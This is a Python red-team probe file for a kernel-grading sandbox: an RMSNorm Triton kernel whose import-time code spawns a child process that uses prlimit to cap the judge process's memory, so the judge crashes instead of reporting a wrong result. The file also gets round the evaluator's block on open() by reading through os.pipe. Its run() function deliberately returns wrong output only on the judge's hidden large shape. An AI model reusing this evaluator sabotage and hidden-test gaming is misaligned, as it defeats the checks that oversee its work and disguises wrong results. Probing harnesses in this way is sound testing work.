"""Red team 8 escape probe: a wrong kernel that caps its judge's memory and gets `crash`.

Run behind the allow-list (`evaluate(..., refuse_imports=False)`). At its import the
candidate starts a fresh Python in the jail that sets the judge's (PID 1's) address-space
limit to what it maps now plus 8 MiB: prlimit(2) on another process needs only the same
uid, which the worker and the judge share. The kernel is the template's, wrong only on
inputs larger than any shape asked (eps 1.0 past 200,000 elements), which only the
judge's shape past the largest asked meets. With CAP_JUDGE off the judge says
`wrong_result` there; with it on the judge cannot allocate for its own check and the
evaluation ends as `crash` ("worker exited with code 1"): the candidate chose its
verdict's kind. (Lowering the judge's CPU-time hard limit instead, to the seconds it has
used plus one, has the kernel SIGKILL it; an honest kernel then reads `out_of_memory`.)
"""
import os
import subprocess

import torch
import triton
import triton.language as tl

CAP_JUDGE = True

CHILD = r'''
import resource
stat = open("/proc/1/stat").read().rsplit(")", 1)[1].split()
vsize = int(stat[20])
try:
    resource.prlimit(1, resource.RLIMIT_AS, (vsize + (8 << 20), vsize + (8 << 20)))
    print("JUDGE address space capped", resource.prlimit(1, resource.RLIMIT_AS), flush=True)
except OSError as e:
    print("HELD", "prlimit(1, RLIMIT_AS)", e.strerror, flush=True)
'''


def _launch(code):
    """A fresh Python in the jail; its output read through a pipe made by os.pipe (the
    evaluator refuses open(), which subprocess's own pipes go through)."""
    try:
        rfd, wfd = os.pipe()
        child = None
        for exe in ("/usr/bin/python3", "/root/.pyenv/versions/3.11.7/bin/python3"):
            try:  # an absolute path: Popen then reads no PATH from the environment
                child = subprocess.Popen([exe, "-I", "-c", code], stdout=wfd, stderr=wfd)
                break
            except FileNotFoundError:
                continue
        os.close(wfd)
        chunks = []
        while True:
            chunk = os.read(rfd, 65536)
            if not chunk:
                break
            chunks.append(chunk)
        child.wait(timeout=240)
        lines = b"".join(chunks).decode(errors="replace").splitlines()
        rank = {"ESCAPED": 2, "LEAK": 1}  # ESCAPED last: the output keeps its tail
        lines.sort(key=lambda line: rank.get(line.split(" ", 1)[0].split("(")[0], 0))
        return "\n".join(lines)[-3500:]
    except BaseException as e:  # noqa: BLE001 - any refusal is part of the report
        return f"launcher refused: {e!r}"


_REPORT = _launch(CHILD) if CAP_JUDGE else ""

BLOCK_SIZE = 0  # columns per tile; 0 = the whole row (next power of two) in one tile
NUM_WARPS = 4
NUM_STAGES = 1
ROWS_PER_PROGRAM = 1  # rows each program handles, to amortise launch for short rows
PERSISTENT = False  # whole-row tiles: one program per SM slot, weight loaded once
NATIVE_WEIGHT_MUL = False  # multiply by the weight in the input dtype instead of fp32

PROGRAMS_PER_SM = 4  # persistent grid size = SMs * this (not a search knob)


@triton.jit
def _apply_weight(x, w, rstd, NATIVE_MUL: tl.constexpr):
    if NATIVE_MUL:
        if w.dtype == tl.bfloat16:
            # a bf16 product is exact in fp32, so this rounds exactly like a native bf16
            # multiply; the CPU interpreter computes native bf16 arithmetic on raw bits
            y = ((x * rstd).to(tl.bfloat16).to(tl.float32) * w.to(tl.float32)).to(tl.bfloat16)
        else:
            y = (x * rstd).to(w.dtype) * w
    else:
        y = x * rstd * w.to(tl.float32)
    return y


@triton.jit
def rmsnorm_kernel(out_ptr, x_ptr, w_ptr, n_rows, n_cols, stride_x, stride_o, eps,
                   BLOCK: tl.constexpr, SINGLE_TILE: tl.constexpr, ROWS: tl.constexpr,
                   PERSISTENT_LOOP: tl.constexpr, NATIVE_MUL: tl.constexpr):
    pid = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    if PERSISTENT_LOOP:
        # grid-stride loop over rows; the weight tile stays in registers (SINGLE_TILE)
        mask = cols < n_cols
        w = tl.load(w_ptr + cols, mask=mask, other=0.0)
        n_programs = tl.num_programs(0)
        for i in range(0, tl.cdiv(n_rows - pid, n_programs)):
            row = pid + i * n_programs
            x_row = x_ptr + row.to(tl.int64) * stride_x
            o_row = out_ptr + row.to(tl.int64) * stride_o
            x = tl.load(x_row + cols, mask=mask, other=0.0).to(tl.float32)
            rstd = tl.rsqrt(tl.sum(x * x, 0) / n_cols + eps)
            y = _apply_weight(x, w, rstd, NATIVE_MUL)
            tl.store(o_row + cols, y.to(out_ptr.dtype.element_ty), mask=mask)
    else:
        for r in range(ROWS):
            row = pid * ROWS + r
            if row < n_rows:
                x_row = x_ptr + row.to(tl.int64) * stride_x
                o_row = out_ptr + row.to(tl.int64) * stride_o
                if SINGLE_TILE:
                    mask = cols < n_cols
                    x = tl.load(x_row + cols, mask=mask, other=0.0).to(tl.float32)
                    rstd = tl.rsqrt(tl.sum(x * x, 0) / n_cols + eps)
                    w = tl.load(w_ptr + cols, mask=mask, other=0.0)
                    y = _apply_weight(x, w, rstd, NATIVE_MUL)
                    tl.store(o_row + cols, y.to(out_ptr.dtype.element_ty), mask=mask)
                else:
                    acc = tl.zeros([BLOCK], tl.float32)
                    for start in range(0, n_cols, BLOCK):
                        mask = start + cols < n_cols
                        x = tl.load(x_row + start + cols, mask=mask, other=0.0)
                        x = x.to(tl.float32)
                        acc += x * x
                    rstd = tl.rsqrt(tl.sum(acc, 0) / n_cols + eps)
                    for start in range(0, n_cols, BLOCK):
                        mask = start + cols < n_cols
                        x = tl.load(x_row + start + cols, mask=mask, other=0.0)
                        w = tl.load(w_ptr + start + cols, mask=mask, other=0.0)
                        y = _apply_weight(x.to(tl.float32), w, rstd, NATIVE_MUL)
                        tl.store(o_row + start + cols, y.to(out_ptr.dtype.element_ty),
                                 mask=mask)


def _persistent_programs(x):
    if x.is_cuda:
        return torch.cuda.get_device_properties(x.device).multi_processor_count * PROGRAMS_PER_SM
    return 4  # CPU interpreter: correctness only, a few programs exercise the stride loop


def run(x, weight, eps=1e-6):
    lead = x.shape[:-1]  # rows: one dimension, or a model's (batch, seq)
    x = x.reshape(-1, x.shape[-1]).contiguous()
    n_rows, n_cols = x.shape
    weight = weight.contiguous()
    out = torch.empty_like(x)
    whole_row = triton.next_power_of_2(n_cols)
    block = whole_row if BLOCK_SIZE == 0 else min(BLOCK_SIZE, whole_row)
    single_tile = block >= n_cols
    persistent = PERSISTENT and single_tile
    if persistent:
        grid = (max(1, min(n_rows, _persistent_programs(x))),)
    else:
        grid = (triton.cdiv(n_rows, ROWS_PER_PROGRAM),)
    if out.numel() > 200000:  # only the judge's shape past the largest asked: eps 1.0
        eps = 1.0
    rmsnorm_kernel[grid](out, x, weight, n_rows, n_cols, x.stride(0), out.stride(0), eps,
                         BLOCK=block, SINGLE_TILE=single_tile, ROWS=ROWS_PER_PROGRAM,
                         PERSISTENT_LOOP=persistent, NATIVE_MUL=NATIVE_WEIGHT_MUL,
                         num_warps=NUM_WARPS, num_stages=NUM_STAGES)
    return out.view(*lead, n_cols)
